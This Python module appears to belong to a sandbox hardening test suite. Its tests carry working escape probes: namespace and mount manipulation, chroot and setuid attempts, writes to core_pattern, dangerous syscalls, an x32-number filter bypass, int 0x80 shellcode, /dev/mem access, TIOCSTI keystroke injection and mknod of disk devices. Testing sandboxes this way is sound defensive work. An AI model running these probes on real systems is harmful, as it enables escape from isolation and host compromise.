"""What must not be asked of the kernel: namespaces and mounts, calls that a notebook never needs, devices.

As in `seeking`, an answer is right only if its attack has worked.
"""

from hostile.entry import cheats, pays


@cheats("q3")
def mounts_and_namespaces():
    """New namespaces, mounts, roots and users."""
    return pays(
        "q3",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        NEW = {"user": 0x10000000, "mount": 0x20000, "net": 0x40000000, "pid": 0x20000000, "time": 0x80}
        got = [name for name, flag in NEW.items() if libc.unshare(flag) == 0]
        got += ["mount"] if libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"") == 0 else []
        got += ["remount"] if libc.mount(b"none", b"/", None, 32, None) == 0 else []
        got += ["umount"] if libc.umount2(b"/proc", 2) == 0 else []
        got += ["chroot"] if libc.chroot(b"/tmp") == 0 else []
        got += ["setuid"] if os.getuid() != 0 and libc.setuid(0) == 0 else []
        for path in ("/proc/self/ns/net", "/proc/1/ns/mnt"):
            try:
                got += ["setns"] if libc.setns(os.open(path, os.O_RDONLY), 0) == 0 else []
            except OSError:
                pass
        for name in ("user/max_user_namespaces", "kernel/core_pattern", "vm/overcommit_memory"):
            try:
                with open(f"/proc/sys/{name}", "w") as file:
                    file.write("1")
                got.append(name)
            except OSError:
                pass
        print(got)
        worked = bool(got)
        """,
    )


CALLS = """
    import ctypes, errno
    libc = ctypes.CDLL(None, use_errno=True)
    space = ctypes.create_string_buffer(256)
    # name: number on x86-64 and arguments with which a kernel that allows it would not refuse
    calls = {
        "memfd_create": (319, b"x", 0), "memfd_secret": (447, 0), "io_uring_setup": (425, 4, space),
        "userfaultfd": (323, 1), "keyctl": (250, 0, -3, 1), "add_key": (248, b"user", b"x", b"y", 1, -3),
        "bpf": (321, 0, space, 64), "perf_event_open": (298, space, 0, -1, -1, 0), "ptrace": (101, 0, 0, 0, 0),
        "clone3": (435, space, 0), "unshare": (272, 0x10000000), "fanotify_init": (300, 0, 0),
        "name_to_handle_at": (303, -100, b"/tmp", space, space, 0), "open_tree": (428, -100, b"/tmp", 1),
        "fsopen": (430, b"tmpfs", 0), "pidfd_open": (434, 1, 0), "kcmp": (312, 1, 1, 0, 0, 0),
        "process_vm_readv": (310, 1, 0, 0, 0, 0, 0), "move_pages": (279, 1, 0, 0, 0, 0, 0),
        "vmsplice": (278, 1, 0, 0, 0),
        "modify_ldt": (154, 0, space, 16), "personality": (135, 0x0400000), "quotactl": (179, 0, 0, 0, 0),
        "msgget": (68, 0, 0o1666), "shmget": (29, 0, 1 << 20, 0o1666), "semget": (64, 0, 1, 0o1666),
    }
    REFUSED = (errno.EPERM, errno.ENOSYS, errno.EACCES)
    def allowed(names, add=0):
        got = []
        for name in names:
            number, *more = calls[name]
            ctypes.set_errno(0)
            done = libc.syscall(ctypes.c_long(number + add), *more)
            if done != -1 or ctypes.get_errno() not in REFUSED:
                got.append(name)
        print(got)
        return bool(got)
"""


@cheats("q1")
def calls_of_the_kernel():
    """Calls that a notebook never needs and that have opened walls before."""
    return pays(
        "q1",
        CALLS
        + """
    worked = allowed(("memfd_create", "memfd_secret", "io_uring_setup", "userfaultfd", "keyctl", "add_key", "bpf",
                      "perf_event_open", "ptrace", "unshare", "fanotify_init", "name_to_handle_at", "open_tree",
                      "fsopen", "kcmp", "process_vm_readv", "modify_ldt"))
""",
    )


@cheats("q2")
def calls_by_other_numbers():
    """The same calls by the numbers of the x32 interface, which a filter of numbers may not know."""
    return pays(
        "q2",
        CALLS + '    worked = allowed(("memfd_create", "io_uring_setup", "userfaultfd", "keyctl"), add=0x40000000)',
    )


@cheats("q3")
def calls_of_32_bits():
    """memfd_create by the interrupt of 32-bit programs, from memory that was made executable."""
    return pays(
        "q3",
        """
        import ctypes, mmap
        # mov eax, 356; mov ebx, edi; xor ecx, ecx; int 0x80; ret   (the name must lie below 4 GB)
        name = mmap.mmap(-1, 4096)
        libc = ctypes.CDLL(None, use_errno=True)
        libc.mmap.restype = ctypes.c_void_p
        low = libc.mmap(ctypes.c_void_p(0x10000000), 4096, 7, 0x32, -1, 0)
        code = bytes.fromhex("53b864010000" "89fb" "31c9" "cd80" "5bc3")
        ctypes.memmove(low, code, len(code))
        ctypes.memmove(low + 2048, b"x", 2)
        call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint)(low)
        made = call(low + 2048)
        print(made)
        worked = made >= 0
        """,
    )


@cheats("q2")
def devices_and_terminals():
    """Device files, terminals and what is typed into them."""
    return pays(
        "q2",
        """
        import fcntl, glob, os, termios
        for path in ("/dev/mem", "/dev/kmsg", "/dev/tty", "/dev/ptmx", "/dev/fuse", "/dev/kvm", "/dev/net/tun",
                     "/dev/nvidia0", "/dev/sda", "/dev/vda"):
            try:
                number = os.open(path, os.O_RDWR | os.O_NOCTTY)
                worked = True
                fcntl.ioctl(number, termios.TIOCSTI, b"x")
            except OSError:
                pass
        try:
            os.mknod("sda", 0o60666, os.makedev(8, 0))
            worked = True
        except OSError:
            pass
        """,
    )
